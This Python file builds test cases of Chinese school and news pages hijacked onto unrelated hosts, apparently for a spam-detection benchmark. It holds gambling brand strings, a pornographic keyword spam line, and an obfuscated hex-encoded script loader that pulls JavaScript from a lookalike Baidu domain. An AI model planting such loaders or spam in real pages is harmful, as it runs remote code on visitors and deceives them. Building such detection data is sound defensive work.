# Verbatim captured texts (search tool, corpus "pages"/"issues"); shells around them are reconstructions.
import re
def strip_emoji(s):
    return re.sub('[\U0001F000-\U0001FAFF\u2600-\u27BF\uFE0F\u200D\u2190-\u21FF\u2B00-\u2BFF]', '', s)

PQ = "pages corpus capture (search: '%s')"
CASES = []
def add(**k):
    k.setdefault("legit", False); k.setdefault("hijacked", bool(k.get("injections")))
    k.setdefault("injections", []); k.setdefault("spam_strings", []); k.setdefault("source", None); k.setdefault("author", None)
    k.setdefault("capture", "text"); k.setdefault("kind", "rebuilt-from-text"); k.setdefault("encoding", "utf-8"); k.setdefault("lang", "zh")
    CASES.append(k)

# ---------------- hijacked ----------------
B1 = "澳门新莆京游戏大厅"
p = ['''2024年3月18日,学校召开2024年全面从严治党工作会,强调做好学校全面从严治党工作。会后,澳门新莆京游戏大厅高度重视,召开党委会、党政联席会、支部书记会等,传达学习《澳门新莆京游戏大厅2024年全面从严治党工作要点及分工》,对学院全面从严治党相关工作进行部署安排并要求认真贯彻落实。''',
'''在学校全面从严治党工作会上,校党委书记甘霖指出,全校上下要增强政治自觉,深入学习领悟总书记关于党的自我革命重要思想的重大意义、丰富内涵和实践要求,紧紧锚定目标任务,坚定不移把全面从严治党引向深入。校党委副书记、纪委书记,国家监委驻澳门新莆京游戏大厅监察专员张卓对进一步加强党风廉政建设、推进纪检监察工作提出要求。校长汪劲松从要提高政治站位、要提升政治能力、要扛牢政治责任三方面,要求贯彻落实好会议精神。''',
'''学院党委书记谢均就学院全面从严治党工作进行了进一步部署安排,从思想建设、组织建设、作风建设、纪律建设和制度建设等五个方面着手,形成“五措并举”态势,结合当前学校“三个一流”建设要求,各支部和党员干部要认真履行职责,切实加强自身建设,做到信仰坚定、纪律严明、作风正派,不断巩固党的执政地位,推动党的事业发展,为全面建设社会主义现代化国家作出积极贡献。''']
add(url="https://yndstz.com/info/1182/6680.html", title=None, date=None, paras=p, text="\n".join(x.replace(B1, "") for x in p),
    injections=["brand_substitution_in_body"], spam_strings=[B1], site="学院新闻网(镜像)", shell="A", title_tag="学院新闻", crumb="首页 > 学院新闻 > 正文",
    origin=PQ % "学院 党委 召开 会议 澳门 娱乐 官网 注册", note="college page copied to an unrelated host, the college's name replaced by a casino brand throughout; truth text drops the brand. Brand-substitution network: rc11-001..003")
B2a, B2b = "外围买球app十大平台", "买球官网"
p = ['''天高云淡,金风玉露。11月1日上午八时三十分,外围买球app十大平台第二十六届田径运动会在田径场盛大开幕。校领导孙晓峰、王延寿、汪海、汪贤才及相关部门领导在主席台就坐。校党委书记董兆武宣布运动会开幕,校长柳友荣致开幕词,开幕式由副校长阳光宁主持。''',
'''在国旗方阵的引领下,14个方阵伴随着雄浑的运动员进行曲依次入场,运动员和裁判员们步伐整齐、精神抖擞,展现了买球官网大学生朝气磅礴、积极向上的精神面貌。在慷慨激昂的国歌中,鲜艳的五星红旗冉冉升起,全场起立行注目礼。''',
'''柳友荣在致辞中,代表学校向为本届运动会辛勤筹备的师生员工表示衷心的感谢。他指出,体育是学院教育事业的重要组成部分,一年一度的运动会是对运动员身体素质、竞技才能、心理承受能力等综合素质的考验,是检验学校体育教学改革成效的重要手段,也是校园文化的重要表现形式。他希望,全体运动员充分发扬更高、更快、更强的奥林匹克精神,赛出水平,赛出风格;希望裁判员秉承“公平、公正”的准则,保证比赛结果公正有效。''',
'''体育学院教师赵永兴及大数据17级新生陈亚琦分别代表赛事裁判员和运动员宣誓。''',
'''在董兆武庄严的宣布声中,运动会正式开始。''',
'''三天的赛程里,来自13个二级学院的822名运动员,将参与12项赛事的角逐。''']
add(url="https://www.dinghor-tek.com/info/1038/6948.html", title=None, date=None, paras=p + ['''(撰稿:张嘉芸、庄志玮/摄影:何雨馨、杨瑞瑞/编辑:檀向群/审核:操国胜)'''],
    text="\n".join(x.replace(B2a, "").replace(B2b, "") for x in p), author="张嘉芸、庄志玮",
    injections=["brand_substitution_in_body"], spam_strings=[B2a, B2b], site="学院新闻网(镜像)", shell="A", title_tag="新闻中心", encoding="gb18030",
    origin=PQ % "体育 平台 官网 学院 举行 运动会 开幕式 网页版", note="two betting brands substituted for the university's name; byline credit line kept out of the text")
p = ['''4月24日晚,我院在新校区图书馆弘石学术报告厅举办“珍惜宝贵的大学时光”专题讲座,讲座邀请我校原图书馆馆长汉泽西教授主讲,2016级辅导员焦龙主持,学院各年级辅导员和四百余名本科生参加。''',
'''讲座伊始,汉泽西教授以一名美国学生的“美国梦”告诉同学们一定要坚信自己的“中国梦”,激励学生奋勇前行;随后,他引用原耶鲁大学校长施密特和原清华大学校长梅贻琦的名言“你们就是大学”和“所谓大学者,非有大楼之谓也,有大师之谓也”告诉同学们什么才是真正的大学,进而帮助同学们认识到大学生活需要把握的重点:自身清晰认知、对学业全面掌控、修炼人品过程中培养爱好、对身心格外呵护等;汉教授用诙谐生动的语言引导大家坚持学生的本分,好好学习,热爱思考,好学好问,培养创新思维,并提出了几条中肯的建议,他说,每个人都要养成记账、看书的习惯;闲暇时找一位老者深入的聊一次;日常生活心中一定要充满阳光。讲座最后,在近一个小时的提问环节中,同学们积极提问,汉教授认真解答,他希望学生们都能健康成长,将来成为对国家、对社会有用的人。''',
'''整场讲座掌声不绝于耳,聆听此次讲座的同学们都受益匪浅,知道了勤俭节约和父母养育子女的不易,绝不能荒废大学时光以及如何珍惜大学时光。通过本次讲座,同学们明晰了自己的大学目标,对大学学习、生活有了更客观的规划,起到了积极的教育引导作用。''']
add(url="http://wnhdea.com/info/1064/2456.html", title="我院举办“珍惜宝贵大学时光”专题讲座", date="2017-04-27", paras=p,
    meta="发布时间:日期:2017-04-27      作者:3308维多利亚线路检测中心学管办       浏览量:", crumb="学院首页 >> 学生工作 >> 学工动态 >> 正文",
    injections=["brand_in_byline"], spam_strings=["3308维多利亚线路检测中心"], site="学院网站(镜像)", shell="A", encoding="gb18030",
    origin=PQ % "当前位置 学院首页 正文 作者 娱乐 线路检测中心 发布时间 浏览量", note="brand replaces the college name inside the 作者 field (shown as 作者:<brand>学管办); truth author null")
p = ['''4月1日,2015门徒平台讀書節在圖書館大廳開幕。楊萬楓副校長、圖書館🧑🏻、宣傳部、學生處、團委🫱🏼、經濟管理學院🎥、信息工程學院🪟、外國語學院、法學院等部門負責人及學生代表出席開幕式。''',
'''2015“海大人文”系列活動輪值主席、圖書館館長鄭蘇致開幕詞🐸,希望同學們在濃濃的書香校園中收獲知識、收獲品格、收獲理想♜。''',
'''楊萬楓副校長在致辭中對同學們寄予殷切希望🟰,鼓勵大家將讀書作為一種習慣長期堅持,在學好專業知識的同時多讀文、史👨👨👧👧、哲方面的書籍。''',
'''楊萬楓副校長宣布2015门徒平台讀書節開幕,並與鄭蘇館長一同為“中國書文化——從歷史走來”展覽揭幕。現場嘉賓在甘子豪同學的解說下參觀展覽👩🦲🎬。''',
'''2015“海大人文”讀書節以“體筆墨韻 會書香情”為主題,由經濟管理學院、信息工程學院🖋、外國語學院和法學院團委承辦🚶🏻♂️↪️,所愛學生會、緯度學生會、語翼學生會👳🏽♂️、法學院學生會、圖書館讀書會等學生社團協辦👩🏼🔬。活動內容豐富,形式新穎🏋🏻♂️,設有“中華好詩詞”知識競賽、卡通形象設計賽🕖、“紀念抗日戰爭勝利70周年”主題朗誦比賽、讀書交流會、“中智杯”青年人文經典競賽選拔賽、藏書速讀賽💆🏻♀️、悅讀遊園會、名著閱讀問答賽🖖🏿、科幻文學講座、“中國書文化——從歷史走來”展覽、經典文學作品改編電影展播等13項活動。''']
add(url="https://web.bj3e.com/2015/0404/c9561a159258/page.htm", title=None, date=None, paras=p, text="\n".join(strip_emoji(x).replace("门徒平台", "") for x in p),
    injections=["brand_substitution_in_body", "emoji_infix", "traditional_mirror"], spam_strings=["门徒平台"], site="海大新聞網(鏡像)", shell="A", title_tag="學校新聞",
    origin=PQ % "學(xué)院 舉辦 講座 師生 參加 活動(dòng)", note="traditional-script copy with emoji spliced into sentences and a platform name substituted for the university; truth text drops emoji and brand")
p = ['''2月25日,安宁区各中小学正式开启2026年春季新学期,沉寂了一个寒假的校园再度热闹起来,琅琅书声与欢声笑语交织,全区各校以贴心的筹备、温馨的氛围,迎接学子们重返校园,奔赴新的成长旅程。''',
'''开学首日,各校校门口热闹非凡,久别重逢的同学们飞奔相拥,分享着寒假的趣事与收获,校园里处处洋溢着欢声笑语。交作业、领新书、打扫教室,熟悉的开学“三件事”有序开展,崭新的课本捧在手中,新学期的仪式感与节奏感扑面而来,家长们则在校门口互相交流着包书皮的小技巧,温馨的画面成为开学季最美的风景。''',
'''万里小学校园内,一条喜庆的红地毯从校门延伸至教学楼,两侧“我们开学啦”“福马迎新”的立牌格外醒目,彩色气球与新春装饰相映成趣。孩子们背着书包,踏着轻快的步伐步入校园,脸上满是对新学期的期待与憧憬。老师们早早守候在校门口,用温暖的笑容迎接每一位学子归来。''',
'''长风小学的开学仪式在校领导致辞中正式拉开帷幕。操场上,身着统一酒红色校服的同学们整齐列队,精神饱满、昂首挺立,眼神中满是对新学期的憧憬与期待。在随后的文艺展演环节,学子们身着极具特色的演出服,带来了精彩的舞蹈表演。灵动的身姿、优美的动作,充分展现出少年儿童蓬勃向上的朝气与活力,为整个开学仪式增添了浓郁的喜庆氛围,赢得了现场阵阵掌声。''']
add(url="https://news.520yyj.cn/detail/173264.html", title="花式迎开学 处处见新意", date="2026-02-26", paras=p,
    body_html=['<p class="pic">学生们在校园里的“福墙”前合影 周栋楠 摄</p>'] + ["<p>%s</p>" % x for x in p],
    top_html='<div class="sale" style="text-align:center;color:red">站点出售QQ:1298774350</div>', meta="发布时间:2026-02-26 09:49:27  浏览量:4", crumb="首页 > 演出资讯  > 歌剧话剧",
    injections=["site_sale_line"], spam_strings=["站点出售QQ:1298774350"], site="演出资讯网", shell="B", origin=PQ % "国产精品 一区二区 学校 举行 开学典礼",
    note="news republished on a sold/parked domain with a domain-sale contact line above the page; photo caption kept out of the text")
PL = "成人综合激情网,真实国产乱子伦精品一区二区三区,亚洲精品99999,日韩欧美国产三级,久久久国产精品亚洲一区,欧美猛交免费看,国产剧情久久久久久,日韩在线视频线视频免费网站,日韩久久精品电影,久久久久久99久久久精品网站"
p = ['''出于對網站自身發展的考慮,為了使搜索引擎能夠提供更加公平的結果,為了維護互聯網生態環境,以及給網民提供更好的上網體驗,我們認為''',
'''web2.0站點論壇版塊里存在上述內容是非常不合適的,網站管理員應對垃圾內容進行重點清理,可以采取以下措施:''',
'''1、刪除垃圾內容,并將這些頁面設置為404頁面后,及時通過百度站長平臺的死鏈工具提交死鏈列表。不僅令百度對站點的自我清理行為及時響應,更方便站點主動控制網站內容在搜索引擎的呈現情況。''',
'''2、提高注冊用戶門檻,限制機器注冊''',
'''1)群發軟件通常使用自動的程序探測論壇默認的注冊文件名、發帖文件名。管理員可以不定期的修改注冊用戶文件名、發帖文件名;注冊、發帖按鈕使用圖片;與程序默認的不同,可以防止被自動程序搜索到。''',
'''2)發帖機通常是機器注冊,行為模式單一。管理員可添加一些需要人工操作的步驟,有助于限制機器注冊。 如:使用驗證碼;限制同一郵箱注冊ID的數量,同時啟用郵箱驗證;使用更為復雜的驗證機制;經常更換注冊問答。''',
'''3)除了在注冊處設置門檻外,還可以控制新用戶權限。如要求完成上傳頭像、完善用戶信息等人工操作步驟后才開放發帖功能;在一定時間內限制新用戶發帖;限制新用戶發布帶鏈接的帖子,待達到一定級別后再放開。''']
add(url="http://m.51o2o.net/content/310.html", title="百度站長平臺權威獲悉如何應對垃圾內容", date="2014-05-29", paras=p,
    top_html='<div class="kw" style="font-size:12px">%s</div>' % PL, title_tag="百度站長平臺權威獲悉如何應對垃圾內容-富海360", meta="來源:m.51o2o.net 發布時間:2014年05月29日", crumb="首頁 > 新聞中心  > 行業資訊",
    injections=["porn_keyword_line", "traditional_mirror"], spam_strings=PL.split(","), site="富海360", shell="B", encoding="gb18030",
    origin=PQ % "网站首页 被篡改 title 博彩 关键词 百度快照 学校 官网 处理", note="porn keyword line above a traditional-script copy; 來源 shows the host itself (truth source null)")
p = ['''原標題:打掉開設賭場犯罪團伙19個''', '''——安寧公安分局破獲“7·19”特大跨境賭博案''',
'''歷時130余天、輾轉22個省區市,蘭州市公安局安寧分局“7·19”特大跨境賭博案專案組于近日凱旋。“7·19”專案組共打掉開設賭場犯罪團伙19個,抓獲違法犯罪嫌疑人280人,初步查明涉案資金達10億元。該案是一起具有犯罪網絡化、運營集團化的特大網絡賭博案件,也是近年來蘭州市乃至全省公安機關偵破的涉案金額最大、抓獲人數最多的一起跨境賭博案件。''',
'''賭徒報警 謊言背后另有隱情''',
'''今年7月,蘭州市安寧區居民胡某報警稱,4月至7月,其在某網游平臺上充值消費,遭遇電信網絡詐騙,被騙近10萬元。民警通過進一步調查發現,胡某報稱的“網游平臺”實為網絡賭博平臺,以“彩票投注”“棋牌游戲”“捕魚游戲”等賭博類游戲,吸引賭客“押大小、猜單雙、押比分、猜數字”。''',
'''面對民警的詢問,胡某只得“全盤招認”,因長期參與網絡賭博,自己不僅背上巨額賭債,家庭也幾近破碎,想通過謊報警情稱自己被電信網絡詐騙,獲取債主和家人的同情,同時幻想能夠追回部分賭資。胡某還向民警提供了一條重要信息:該平臺在全國范圍內吸引賭客,自己身邊的“賭友”都在同一平臺參與賭博。''',
'''縝密偵查 挖出跨境賭博團伙''',
'''隨著調查的深入,民警發現負責運營涉案網賭平臺的公司位于境外,網站服務器全部架設在境外或以租用形式在境外提供“跳轉”服務,同時在國內發展多級“代理”運營團伙,通過非法網站和手機APP“廣攬”賭徒參與賭博、層層“抽水”牟取暴利,僅6月的涉案資金流水就達到上億元,屬于特大跨境賭博犯罪。''']
add(url="http://m.alearn.cn/fzgs/system/2023/11/21/013059504.shtml", title=None, date="2023-11-21", paras=p,
    body_html=["<p>%s</p>" % x for x in p[:3]] + ['<p class="pic">押解犯罪嫌疑人。蘭州市公安局供圖</p>'] + ["<p>%s</p>" % x for x in p[3:]],
    injections=["traditional_mirror"], site="法治(鏡像)", shell="B", title_tag="法治故事", encoding="gb18030",
    origin=PQ % "公安 打掉 跨境赌博 团伙 抓获 嫌疑人", note="traditional-script copy of a police report on an unrelated education-named host, no injected string captured; photo caption kept out")
p = ['''“速看,馬上停播!”、“內部資料,多少錢都買不到”、“名人離世,原因讓人震驚!”……在微信群、搜索引擎以及各類信息平臺(tái)上,時(shí)不時(shí)就會(huì)遇到這類標(biāo)題夸張的文章鏈接,而點(diǎn)擊進(jìn)入后,文章內(nèi)容往往名不副實(shí),有所夸大,甚至一些文章內(nèi)容為謠言。''',
'''究竟是誰(shuí)在制造這些“標(biāo)題黨”文章?近日,新京報(bào)記者隨機(jī)抽樣收集了30條標(biāo)題用詞夸張,并在微信群、朋友圈流傳的公眾號(hào)文章,這些文章中,有22條內(nèi)容夸大、5條謠言、3條文不對(duì)題。發(fā)送這些文章的公眾號(hào)運(yùn)營(yíng)者中,21個(gè)為公司運(yùn)作,9個(gè)公眾號(hào)則為個(gè)人所有。''',
'''記者穿透多個(gè)運(yùn)營(yíng)“標(biāo)題黨”文章的公司股權(quán)發(fā)現(xiàn),不少公眾號(hào)的實(shí)控人名下控制有多家小微公司,每個(gè)公司旗下均有不同的公眾號(hào),這些公眾號(hào)互相推送,通過多級(jí)跳轉(zhuǎn)互相增加點(diǎn)擊量,最終通過發(fā)布廣告、軟文或?qū)Я髦磷约好碌某渲敌≌f站獲利。''',
'''根據(jù)“騰訊網(wǎng)絡(luò)安全與犯罪研究基地”發(fā)布的文章,目前依然沿用這些套路在網(wǎng)絡(luò)上散播標(biāo)題黨內(nèi)容的人,主要是通過違法廣告獲取流量從而變現(xiàn)。''']
add(url="http://m.eduhup.com.cn/news/gn/shxw/201907/12/1776182.shtml", title=None, date="2019-07-12", paras=p, crumb="您現(xiàn)在的位置:海峽網(wǎng)>新聞中心>國(guó)內(nèi)頻道>社會(huì)新聞",
    injections=["traditional_mirror"], site="海峽網(wǎng)(鏡像)", shell="B", title_tag="社會(huì)新聞",
    origin=PQ % "学院 新闻 网站 被黑 博彩 关键词 标题", note="traditional-script copy with inline pinyin glosses on an edu-named host; text kept as captured")
p = ['''8月5日,縣召開政府網(wǎng)站改版準(zhǔn)備工作會(huì)議??h委常委、宣傳部長(zhǎng)胡成彪出席會(huì)議。''',
'''胡成彪要求,各有關(guān)部門和單位要認(rèn)清形勢(shì),跟上時(shí)代,把政府網(wǎng)站建設(shè)作為提高執(zhí)政能力、提高管理水平、提高工作效能的主要組成部分;抓好網(wǎng)站改版,要圍繞信息公開、公共服務(wù)和公眾參與調(diào)整欄目建設(shè),突出在線辦事和公眾參與功能;要圍繞政府重要決策和與公眾利益密切相關(guān)的事項(xiàng)開展網(wǎng)上調(diào)查、網(wǎng)上評(píng)議等工作;要切實(shí)加強(qiáng)對(duì)政府網(wǎng)站改版工作的領(lǐng)導(dǎo),確保網(wǎng)站建設(shè)工作順利進(jìn)行。''',
'''會(huì)上,縣新聞中心負(fù)責(zé)人宣讀了2008年縣級(jí)門戶網(wǎng)站績(jī)效評(píng)估指標(biāo)考核體系。''']
add(url="http://fyzhizao.com/news/3286.htm", title=None, date=None, paras=p, body_html=["<p>%s</p>" % x for x in p] + ['<p class="editor">責(zé)任編輯:admin</p>'],
    injections=["traditional_mirror"], site="新聞(鏡像)", shell="D", title_tag="新聞動(dòng)態(tài)", crumb="網(wǎng)站首頁(yè) > 新聞動(dòng)態(tài)",
    origin=PQ % "縣 人民政府 召開 會議 網(wǎng) 部署 工作", note="county news in traditional script with pinyin glosses on a factory-named host; '??' kept as captured")
p = ['''2月25日,學(xué)校學(xué)工部特邀浙江大學(xué)博士生導(dǎo)師、臺港澳研究所所長,國內(nèi)“蔣介石研究”最具權(quán)威專家楊樹標(biāo)教授為我校學(xué)生作臺灣問題的講座。楊教授以“漫談”形式,從六個(gè)方面談?wù)摿伺_灣問題。''',
'''據(jù)悉,此次講座主場設(shè)在翔宇樓304教室,為了讓更多的同學(xué)們聽到講座,學(xué)校特意開放了5個(gè)多媒體教室。來自各個(gè)二級學(xué)院的900多位同學(xué)聆聽了講座,教室內(nèi)座無虛席,許多同學(xué)站著聽完了整場講座。全場同學(xué)聚精會神,認(rèn)真聽講,場內(nèi)氣氛十分活躍。''']
add(url="https://www.dvnkrgt.xyz/info/1100/8884.htm", title=None, date=None, paras=p, injections=["traditional_mirror"], site="學校新聞(鏡像)", shell="A", title_tag="學工動態",
    origin=PQ % "學(xué)院 舉辦 講座 師生 參加 活動(dòng)", note="school news in traditional script with glosses on a random .xyz host")
p = ['''4月19日上午,我校2017年田徑運(yùn)動(dòng)會(huì)在標(biāo)準(zhǔn)田徑運(yùn)動(dòng)場(chǎng)隆重開(kāi)幕。''',
'''校黨委書(shū)記潘中偉,副校長(zhǎng)馬建中、王學(xué)川,紀(jì)委書(shū)記王樹(shù)茂出席開(kāi)幕式。校黨委副書(shū)記楊欲曉主持開(kāi)幕式并宣布本屆運(yùn)動(dòng)會(huì)開(kāi)幕。他希望廣大師生牢固樹(shù)立終身鍛煉的體育健康理念,發(fā)揚(yáng)“更快、更高、更強(qiáng)”的自我挑戰(zhàn)精神,在賽場(chǎng)上頑強(qiáng)拼搏,團(tuán)結(jié)互助,超越自我,創(chuàng)造優(yōu)異的成績(jī),并以此為契機(jī),進(jìn)一步推動(dòng)學(xué)校體育事業(yè)和精神文明建設(shè)的蓬勃發(fā)展。''',
'''踏著激昂的運(yùn)動(dòng)員進(jìn)行曲,國(guó)旗護(hù)衛(wèi)隊(duì)、運(yùn)動(dòng)員、裁判員、志愿者、競(jìng)技類(lèi)體育社團(tuán)等代表隊(duì)方陣邁著矯健步伐,呼喊著響亮的口號(hào),高舉著奮進(jìn)的標(biāo)語(yǔ),精神抖擻地依次通過(guò)主席臺(tái)前。''',
'''隨后,在雄壯的國(guó)歌聲和校歌聲中,五星紅旗、校旗和運(yùn)動(dòng)會(huì)會(huì)旗相繼冉冉升起。''',
'''本屆運(yùn)動(dòng)會(huì)共設(shè)68個(gè)競(jìng)賽項(xiàng)目,其中團(tuán)體項(xiàng)目16項(xiàng),共有來(lái)自全校12支大學(xué)生代表隊(duì)、15支教工代表隊(duì)共計(jì)2390名運(yùn)動(dòng)員參賽。''']
add(url="http://m.thenakedco.com/info/1070/3611.htm", title="2017年田徑運(yùn)動(dòng)會(huì)隆重開(kāi)幕", date=None, paras=p,
    body_html=["<p>%s</p>" % x for x in p] + ['<p>(核稿:方潤(rùn)澤 編輯:杜楊)</p>', '<p class="prev">上一條:2017年田徑運(yùn)動(dòng)會(huì)勝利閉幕 打破一項(xiàng)保持20年</p>'],
    injections=["traditional_mirror"], site="學校新聞網(鏡像)", shell="A", origin=PQ % "体育 平台 官网 学院 举行 运动会 开幕式 网页版",
    note="university sports news in traditional script with glosses on a shop-named host; the captured 花環舞 paragraph is left out of both page and truth (its capture had a garbled run)")
p = ['''5月9日晚7:00,學(xué)校田徑場(chǎng)燈火璀璨、流光溢彩,“山外杯”第十六屆學(xué)生運(yùn)動(dòng)會(huì)開幕。學(xué)校董事長拜文匯、黨委書記張偉、校長杜琳等領(lǐng)導(dǎo)班子成員出席開幕式,校長助理馬章勤主持開幕式。各部門、各單位負(fù)責(zé)人,全體師生、校友代表參加開幕式。''',
'''伴隨著鏗鏘有力的《運(yùn)動(dòng)員進(jìn)行曲》,11支方隊(duì)有序入場(chǎng)。各方隊(duì)精神抖擻、英姿颯爽,展現(xiàn)了昂揚(yáng)向上、團(tuán)結(jié)進(jìn)取的精神風(fēng)貌。''']
add(url="http://www.ckbkkc.com/html/849/2024-05-09/content-12999.html", title="我校第十六屆學(xué)生運(yùn)動(dòng)會(huì)開幕", date="2024-05-09", paras=p,
    body_html=["<p>%s</p>" % p[0], '<p class="pic">06.jpg</p>', '<p class="pic">裁判員方隊(duì).jpg</p>', "<p>%s</p>" % p[1]],
    meta="作者:  來源:  時間:2024-05-09", crumb="首頁 - 山外要聞 - 正文", injections=["traditional_mirror"], site="山外要聞(鏡像)", shell="B",
    origin=PQ % "体育 平台 官网 学院 举行 运动会 开幕式 网页版", note="only the first two paragraphs kept (the rest of the capture was cut); image file names as captured, not text")
p = ['''3月30日,西昌學(xué)院第十六屆田徑運(yùn)動(dòng)會(huì)暨第十屆教職工趣味運(yùn)動(dòng)會(huì)開(kāi)幕式在北校區(qū)田徑場(chǎng)順利舉行。黨委書記彭正松,黨委副書記陳小虎,黨委常委、副院長(zhǎng)曲木伍各,黨委常委、副院長(zhǎng)胡青龍,黨委常委、組織部部長(zhǎng)袁穎以及體委、教務(wù)處、學(xué)工部,校團(tuán)委等職能部門負(fù)責(zé)人參加此次開(kāi)幕式。本次開(kāi)幕式由黨委書記彭正松主持。''',
'''陳小虎隨后上臺(tái)發(fā)言,對(duì)本次運(yùn)動(dòng)會(huì)付出的全體師生表示感謝,并提出了三點(diǎn)要求:一是希望各位裁判員公正執(zhí)法,公平裁決;二是希望各位運(yùn)動(dòng)員們可以賽出水平,賽出風(fēng)采,發(fā)揚(yáng)更高、更快、更強(qiáng)、更團(tuán)結(jié)的奧林匹克精神;三是希望各位觀眾能遵守大賽秩序并為各位運(yùn)動(dòng)員吶喊助威。''',
'''各位領(lǐng)導(dǎo)和代表演講結(jié)束后,舉行升國(guó)旗儀式,隨著國(guó)旗的緩緩升起,全體師生齊唱國(guó)歌,五星紅旗伴著歌聲在風(fēng)中飛揚(yáng)。''']
add(url="http://www.gztinco.com/gqtxcxywyh/index/jcly/690676/index.html", title=None, date="2023-03-31", author="團(tuán)委", paras=p,
    body_html=["<p>%s</p>" % p[0], '<p class="pic">圖1 彭正松書記宣布西昌學(xué)院第十六屆田徑運(yùn)動(dòng)會(huì)暨第十屆教職工趣味運(yùn)動(dòng)會(huì)正式開(kāi)幕</p>', "<p>%s</p>" % p[1], '<p class="pic">圖2 運(yùn)動(dòng)員代表宣誓</p>', "<p>%s</p>" % p[2], '<p class="pic">圖3 五星紅旗緩緩升起</p>'],
    meta="發(fā)布時(shí)間:2023年03月31日 作者:團(tuán)委 字體: 大 中 小 瀏覽次數(shù):", crumb="當(dāng)前位置:網(wǎng)站首頁(yè) > 網(wǎng)站首頁(yè) > 精彩掠影",
    injections=["traditional_mirror"], site="團(tuán)委(鏡像)", shell="D", title_tag="精彩掠影",
    origin=PQ % "体育 平台 官网 学院 举行 运动会 开幕式 网页版", note="college youth-league page in traditional script with glosses on a trading-company host; figure captions kept out")
p = ['''新年的鞭炮聲還在耳畔回響,親人的祝福還在耳邊蕩漾。在樹枝吐翠,乍暖還寒的時(shí)節(jié),2月12日,星光教育集團(tuán)·史莊小學(xué)召開了新學(xué)期教師工作會(huì)議,翻開了新學(xué)期的扉頁(yè)。''',
'''解朝峰校長(zhǎng)首先祝賀學(xué)校上學(xué)期取得了優(yōu)異的成績(jī),向辛勤工作的老師們表示衷心感謝。在表?yè)P(yáng)進(jìn)步的同時(shí),他也指出了工作中還存在的問(wèn)題,希望大家能直面問(wèn)題,積極應(yīng)對(duì)。''',
'''接著,業(yè)務(wù)校長(zhǎng)鄭強(qiáng)根據(jù)區(qū)教體局會(huì)議精神對(duì)新學(xué)期教學(xué)工作進(jìn)行部署,安排了開學(xué)階段教研和教學(xué)常規(guī)工作,希望全體教師以高效率高質(zhì)量為目標(biāo),進(jìn)一步轉(zhuǎn)變教學(xué)觀念,進(jìn)一步樹立課程意識(shí),進(jìn)一步提高課堂效率,進(jìn)一步規(guī)范教學(xué)行為。''',
'''隨后,其他6名學(xué)校中層干部就其分管的德育處、教科室、少先隊(duì)、教導(dǎo)處、安全處等各部門作新學(xué)期總體規(guī)劃和指引,并指出當(dāng)前的重點(diǎn)工作。''',
'''新學(xué)期,新征程。此次開學(xué)工作會(huì)議的召開,全面啟動(dòng)新學(xué)期的各項(xiàng)工作,史莊小學(xué)全體教職工將凝心聚力,砥礪前行,用熱情和汗水譜寫教育新篇。''']
add(url="http://www.ikcnc-en.com/article/175600.html", title=None, date=None, paras=p, injections=["traditional_mirror"], site="教育資訊(鏡像)", shell="D", title_tag="教育資訊", encoding="gb18030",
    origin=PQ % "學(xué)校 召開(kāi) 工作會(huì)議 部署 全體 教師", note="primary-school news in traditional script with glosses on an English-named host")
p = ['''2021年2月20日,農歷正月初九,年味尚濃。銅山區(qū)柳泉鎮(zhèn)后象小學的全體教職員工在學校會議室集中,召開新學期動員會。劉長貴校長親自主持,全校46名教師全部到會。''',
'''2021年的寒假是一個特殊的寒假,我們既有脫貧攻堅全面勝利的喜悅,又有全世界新冠肺炎疫情帶來的憂慮。在這個大背景下,如何合理安排學生有序開學、如何讓全校各項工作順利進入正軌就顯得尤為重要。因此,經校領導研究決定,2月20日全校教職員工返校,召開春季開學動員大會。''',
'''在此次動員會上,張永校長、李想主任、王靜文主任、祝立杰主任、呂高飛主任依次發(fā)言,既有上學期工作的總結,也有本學期的工作重點。領導們的發(fā)言,為新學期的工作指明了方向。''',
'''最后,劉長貴校長對會議進行了總結,他說:“老師們,同志們,新的學期開始了,讓我們繼往開來,用更加飽滿的熱情去創(chuàng)造更加輝煌的明天吧!”''']
add(url="http://fabijiade.com/article/145410.html", title=None, date=None, paras=p, injections=["traditional_mirror"], site="文章(鏡像)", shell="B", title_tag="文章",
    origin=PQ % "學(xué)校 召開(kāi) 工作會(huì)議 部署 全體 教師", note="school news in traditional script with sparse glosses")
# real injection (maccms10 issue #985: hex-encoded loader URL) into a real clean school page
URL = "https://zz.bdustatic.com/linksubmit/push.js"
hx = "".join("\\x%02x" % ord(ch) for ch in URL)
p = ['''8月28日上午8点,新桥初级中学召开了新学期第一次全体教师会议,进一步贯彻落实新学期学校的工作目标与思路,部署好开学前各项准备工作。''',
'''宣校长首先对所有新进入新桥初中这个大家庭的老师表示了热烈的欢迎。其次,宣校就学校制度,发展定位与思路,学校重点工作这三方面对全体教师提出了要求与期望。''',
'''首先,制度是一个学校的生命,一切得按规章制度执行。包括对学生进行分段式管理,教师的工作,教研组活动,班主任例会等都要严格按制度执行。这样学校的一切才会变得井井有条。其次,宣校将学校定位成质量优越、内涵丰富、特色鲜明、民主和谐的区域优质学校,同时确定了这一学年的主题词:信念,责任,实践。面对目前生源比较艰难的现状,希望各位老师有坚定的信念,有自己的责任感,勇于实践,提升自己。最后,对学校未来的重点工作做了部署,第一,针对新老教师开展的青蓝工程和备课组教研组活动;第二,实行分段式管理;第三,创建优质学校。希望各位老师能在安排好自己工作的同时积极参加学校的重点工作,为学校的建设贡献自己的力量。''',
'''最后,宣校再次对全体教师提出了期望,希望大家以饱满的热情,充足的干劲投入到新学期的工作中,会议在掌声中圆满结束。''',
'''本次会议,使全体教师进一步明确了新学期的工作任务与要求,统一了思想,提高了认识,增强了责任心和使命感,凝聚了力量,有利于促进新学期学校教育教学工作的顺利开展。''']
add(url="http://www.xqcz.xbjyfw.cn/html/article1612494.html", title=None, date=None, author="於敏佳", paras=p,
    body_html=["<p>%s</p>" % x for x in p] + ["<p>撰稿:於敏佳</p>"],
    head_html='<script type="text/javascript">var _0xu="%s";(function(){var s=document.createElement("script");s.src=_0xu;document.getElementsByTagName("head")[0].appendChild(s);})();</script>' % hx,
    injections=["hex_encoded_loader"], site="新桥初级中学", shell="D", title_tag="新桥初级中学", kind="real-injection-in-real-page",
    origin="loader URL from github magicblack/maccms10 issue #985 (the reporter decoded a hex-escaped redirect URL hidden in a template JS); page text: " + PQ % "学校 召开 工作会议 部署 全体 教师",
    note="no visible spam; the hex escaping of the URL is a reconstruction of the reported encoding")
